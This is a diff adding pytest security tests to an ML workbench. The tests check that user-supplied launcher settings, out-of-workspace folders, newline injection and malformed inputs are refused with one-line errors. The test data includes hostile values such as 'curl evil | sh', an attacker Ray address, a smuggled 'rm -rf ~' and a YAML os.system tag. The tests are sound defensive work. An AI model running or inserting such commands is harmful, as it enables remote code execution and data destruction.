@@ -11,11 +11,12 @@ import pytest
 
 from cli import main
 from unirex.config import from_dict, resolve_config, to_dict
+from unirex.data import build_split
 from unirex.errors import UnirexError, scrub_secrets
 from unirex.runs import RunDir
 from workbench import Workbench
 
-from test_hostile_input import tree
+from test_hostile_input import ann, ev, small_dataset, tree
 
 TOKEN = "hf_TESTtokenDoNotLeak0123456789"
 LOGIN = ("admin", "Pa55-word-never-shown")
@@ -143,3 +144,112 @@ def test_a_runs_error_never_holds_the_apps_login(tmp_path, secrets_env, tiny_arc
         _no_secret(text)
     wb.jobs.finish(job.job_id, "failed", f"boom {LOGIN[1]}")
     _no_secret(wb.job(job.job_id).error or "")
+
+
+# --- 3. launcher settings from the app --------------------------------------------------------------------------
+
+SERVER_ONLY = [("launcher.slurm.setup", "curl evil | sh"), ("launcher.slurm.folder", "/tmp/jobs"),
+               ("launcher.ray.address", "ray://attacker:10001")]
+
+
+@pytest.mark.parametrize("key,value", SERVER_ONLY)
+def test_the_app_refuses_server_settings_from_a_user(tmp_path, tiny_arch, key, value):
+    wb = Workbench(tmp_path / "ws", confine=True, trusted_archs=(tiny_arch,))
+    launcher = key.split(".")[1]
+    for call in (lambda: wb.submit(["data=demo", f"launcher={launcher}", f"{key}={value}"]),
+                 lambda: wb.submit(["data=demo"], launcher=launcher, launcher_options={key[9:]: value}),
+                 lambda: wb.submit(["data=demo"], launcher=launcher, launcher_options=[f"{key}={value}"])):
+        with pytest.raises(UnirexError) as e:
+            call()
+        msg = str(e.value)
+        assert "\n" not in msg and key in msg and "server" in msg
+    check = wb.check(["data=demo", f"launcher={launcher}", f"{key}={value}"])
+    assert not check.ok and key in check.message
+    assert wb.queue(include_final=True) == []
+
+
+def test_the_apps_server_settings_come_from_its_environment(tmp_path, tiny_arch, monkeypatch):
+    pytest.importorskip("submitit")
+    from workbench.launchers import server_launcher_values
+
+    ws = tmp_path / "ws"
+    monkeypatch.setenv("UNIREX_APP_LAUNCHER_SLURM_SETUP", "module load cuda")
+    monkeypatch.setenv("UNIREX_APP_LAUNCHER_SLURM_FOLDER", str(ws / "slurm-jobs"))
+    values = server_launcher_values()
+    assert values == {"slurm.setup": "module load cuda", "slurm.folder": str(ws / "slurm-jobs")}
+    wb = Workbench(ws, confine=True, trusted_archs=(tiny_arch,), launcher_settings=values)
+    (job,) = wb.submit(["data=demo", f"arch={tiny_arch}", "launcher.slurm.cluster=local"], launcher="slurm")
+    assert "launcher.slurm.setup='module load cuda'" in job.launcher_args
+    assert f"launcher.slurm.folder={ws / 'slurm-jobs'}" in job.launcher_args
+
+
+@pytest.mark.parametrize("confine", [True, False])
+def test_a_launcher_folder_outside_the_workspace_is_refused_on_every_front(tmp_path, tiny_arch, confine):
+    ws = tmp_path / "ws"
+    outside = str(tmp_path / "elsewhere")
+    settings = {"slurm.folder": outside} if confine else {}
+    wb = Workbench(ws, confine=confine, trusted_archs=(tiny_arch,), launcher_settings=settings)
+    extra = [] if confine else [f"launcher.slurm.folder={outside}"]
+    for folder in ([] if confine else ["../elsewhere", outside]):
+        with pytest.raises(UnirexError, match="launcher.slurm.folder .*outside the workspace"):
+            wb.submit(["data=demo", f"arch={tiny_arch}", "launcher=slurm", "launcher.slurm.cluster=local",
+                       f"launcher.slurm.folder={folder}"])
+    if confine:
+        with pytest.raises(UnirexError, match="launcher.slurm.folder .*outside the workspace"):
+            wb.submit(["data=demo", f"arch={tiny_arch}", "launcher=slurm", "launcher.slurm.cluster=local", *extra])
+    assert not (tmp_path / "elsewhere").exists() and wb.queue(include_final=True) == []
+
+
+@pytest.mark.parametrize("key", ["launcher.slurm.partition", "launcher.slurm.account", "launcher.slurm.setup"])
+def test_launcher_values_cannot_carry_a_second_line(key):
+    from workbench.launchers import launcher_options
+
+    with pytest.raises(UnirexError, match=f"{key} .*control character"):
+        launcher_options("slurm", [f"{key}=gpu\nrm -rf ~"])
+
+
+# --- 7. one line instead of a traceback ---------------------------------------------------------------------
+
+
+def _cli_build(data: Path, capsys) -> str:
+    code = main(["build-dataset", "--data_dir", str(data), "--dataset", "ds", "--split", "train", "--max_length", "32"])
+    err = capsys.readouterr().err
+    assert code == 2 and err.startswith("error: ") and err.count("\n") == 1, err
+    return err
+
+
+@pytest.mark.parametrize("where", ["annotation_id", "evidence", "docids"])
+def test_a_300_character_docid_is_one_line(tmp_path, capsys, where):
+    long = "d" * 300
+    bad = {"annotation_id": ann(long, "NEG"), "evidence": ann("m2", "NEG", [[ev(long, 0, 1)]]),
+           "docids": ann("m2", "NEG", docids=[long])}[where]
+    small_dataset(tmp_path, train=[ann("m1", "POS"), bad])
+    before = tree(tmp_path)
+    with pytest.raises(UnirexError, match="too long"):
+        build_split(tmp_path, "ds", "train", max_length=32)
+    assert "too long" in _cli_build(tmp_path, capsys) and tree(tmp_path) == before
+
+
+@pytest.mark.parametrize("field", ["classification", "annotation_id", "query"])
+def test_a_lone_surrogate_is_one_line(tmp_path, capsys, field):
+    rec = ann("m1", "POS", query="q")
+    rec[field] = "\ud800"
+    small_dataset(tmp_path, train=[ann("m2", "NEG"), rec])
+    with pytest.raises(UnirexError, match=rf"train.jsonl:2: field '{field}' contains a lone surrogate"):
+        build_split(tmp_path, "ds", "train", max_length=32)
+    assert "surrogate" in _cli_build(tmp_path, capsys)
+
+
+def test_a_5001_digit_offset_is_one_line(tmp_path, capsys):
+    d = small_dataset(tmp_path, train=[ann("m1", "POS", [[ev("m1", 12345, 3)]])])
+    (d / "train.jsonl").write_text((d / "train.jsonl").read_text().replace("12345", "9" * 5001))
+    with pytest.raises(UnirexError, match=r"train.jsonl:1: .*number .*digits"):
+        build_split(tmp_path, "ds", "train", max_length=32)
+    assert "digits" in _cli_build(tmp_path, capsys)
+
+
+@pytest.mark.parametrize("raw", ["[", "{", "[1, 2", "a: b", "!!python/object:os.system"])
+def test_malformed_values_are_one_line(raw):
+    with pytest.raises(UnirexError) as e:
+        resolve_config([f"model.exp_id={raw}"])
+    assert "\n" not in str(e.value) and "model.exp_id" in str(e.value)
